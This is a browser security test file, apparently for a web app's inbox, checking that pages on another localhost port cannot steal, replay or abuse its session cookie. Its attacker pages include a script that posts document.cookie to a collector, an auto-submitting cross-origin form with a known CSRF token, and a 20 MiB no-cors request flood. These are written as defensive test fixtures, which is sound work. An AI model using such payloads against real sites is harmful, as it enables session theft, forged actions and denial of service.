"""A page on another port of the same host, in the signed-in person's own browser
(Chromium), cannot read, replay or use the inbox's session: browsers send cookies to
every port of a host (RFC 6265 §8.5), so the session cookie is scoped to its session's
unguessable path, and every state-changing request from another origin is refused.

The other port is a small HTTP server of the test's on 127.0.0.1 that records every
request it is sent (its Cookie header included) and serves the attacker's page."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.sync_api import Page, expect

import waitbound
from tests.browser.conftest import Inbox
from waitbound.stores._sessions import sessions_of

pytestmark = pytest.mark.e2e


@dataclass
class OtherPort:
    """The server on another port: what it was sent, and the page it serves."""

    url: str = ""
    page: str = "<!doctype html><title>elsewhere</title>"
    cookies: list[str] = field(default_factory=list)
    paths: list[str] = field(default_factory=list)
    reports: list[dict[str, Any]] = field(default_factory=list)


@pytest.fixture
def other_port() -> Iterator[OtherPort]:
    """An HTTP server on a free port of 127.0.0.1 (not the inbox's)."""
    seen = OtherPort()

    class Handler(http.server.BaseHTTPRequestHandler):
        def _record(self) -> None:
            seen.paths.append(self.path)
            seen.cookies.append(self.headers.get("Cookie", ""))

        def do_GET(self) -> None:
            self._record()
            body = seen.page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self._record()
            length = int(self.headers.get("Content-Length", "0"))
            seen.reports.append(json.loads(self.rfile.read(length) or b"{}"))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    seen.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def _session_cookie(page: Page) -> Any:
    return next(c for c in page.context.cookies() if c["name"] == "waitbound_session")


def test_a_page_on_another_port_is_never_sent_the_session_cookie(
    inbox: Inbox, page: Page, other_port: OtherPort
) -> None:
    """Signed in on the inbox's port, the same browser visits pages of another port of
    127.0.0.1 (its root, and a /s/ path of its own): no request it receives carries the
    session cookie, and its script cannot see it in document.cookie."""
    inbox.sign_in(page, "ann")
    cookie = _session_cookie(page)
    assert cookie["path"].startswith("/s/")
    other_port.page = (
        "<!doctype html><script>"
        "fetch('/report', {method: 'POST', body: JSON.stringify({cookie: document.cookie})});"
        "</script>"
    )
    elsewhere = page.context.new_page()
    for path in ("/", "/s/" + "A" * 32 + "/", "/in-flight"):
        with elsewhere.expect_response(lambda r: r.url.endswith("/report")):
            elsewhere.goto(f"{other_port.url}{path}")
    assert len(other_port.reports) == 3
    assert all("waitbound_session" not in sent for sent in other_port.cookies)
    assert all("waitbound_session" not in str(r) for r in other_port.reports)
    assert cookie["value"] not in " ".join(other_port.cookies)


def test_a_page_on_another_port_cannot_decide_even_knowing_the_path_and_csrf(
    inbox: Inbox, page: Page, other_port: OtherPort
) -> None:
    """The worst case: the other port's page knows the session's path and the form's
    CSRF token, and submits the decide form to the inbox from ann's own browser (the
    cookie IS sent: same site). The inbox answers 403 (its Origin, Sec-Fetch-Site) and
    nothing is decided; a submit without the path is not even signed in."""
    op = "cross-port-01"
    inbox.escalate(op)
    inbox.sign_in(page, "ann")
    page.goto(inbox.at(page, f"/operation/{op}?option=abandon"))
    csrf = page.locator('form.decide [name="csrf"]').input_value()
    base = inbox.at(page, "")
    fields = (
        '<input name="option" value="abandon"><input name="why" value="from another port">'
        f'<input name="csrf" value="{csrf}">'
    )
    for action in (f"{base}/operation/{op}/decide", f"{inbox.url}/operation/{op}/decide"):
        other_port.page = (
            f'<!doctype html><form id="f" method="post" action="{action}">{fields}</form>'
            "<script>document.getElementById('f').submit();</script>"
        )
        attacker = page.context.new_page()
        with attacker.expect_response(lambda r: r.url.endswith("/decide")) as answered:
            attacker.goto(f"{other_port.url}/")
        assert answered.value.status in (403, 303), answered.value.status
        if action.startswith(base):
            assert answered.value.status == 403
        attacker.close()
    assert inbox.record(op).decisions == ()
    assert inbox.record(op).decision_request is not None


def test_a_cookie_taken_from_the_browser_is_refused_outside_its_path(
    inbox: Inbox, page: Page
) -> None:
    """Even a cookie value copied out of the browser is refused at the plain paths (a
    script replaying it without the session's path gets the sign-in page), and after
    sign-out it is refused under its own path too."""
    inbox.sign_in(page, "ann")
    value = _session_cookie(page)["value"]
    base = inbox.at(page, "")
    replay = page.context.request
    header = {"Cookie": f"waitbound_session={value}"}
    assert replay.get(f"{inbox.url}/", headers=header, max_redirects=0).status == 303
    assert replay.get(f"{base}/", headers=header, max_redirects=0).status == 200
    page.locator('form[action$="/sign-out"] button').click()
    expect(page).to_have_url(f"{inbox.url}/sign-in")
    assert replay.get(f"{base}/", headers=header, max_redirects=0).status == 303


def test_a_no_cors_flood_from_another_origin_is_refused_without_a_session(
    inbox: Inbox, page: Page, other_port: OtherPort
) -> None:
    """A page elsewhere fires a no-cors multipart sign-in of 20 MiB at the inbox (the
    attack that once grew the server by hundreds of MiB): the inbox answers 403 from its
    headers alone, and no session is made."""
    other_port.page = (
        "<!doctype html><script>"
        "const form = new FormData();"
        "form.append('token', 'x'.repeat(32));"
        "form.append('blob', new Blob([new Uint8Array(20 * 1024 * 1024)]), 'x.bin');"
        f"fetch('{inbox.url}/sign-in', {{method: 'POST', mode: 'no-cors', body: form}});"
        "</script>"
    )
    with page.expect_response(lambda r: r.url == f"{inbox.url}/sign-in") as answered:
        page.goto(f"{other_port.url}/")
    assert answered.value.status == 403
    now = waitbound.SystemClock().now()
    assert sessions_of(inbox.store).list_sessions(now=now) == []
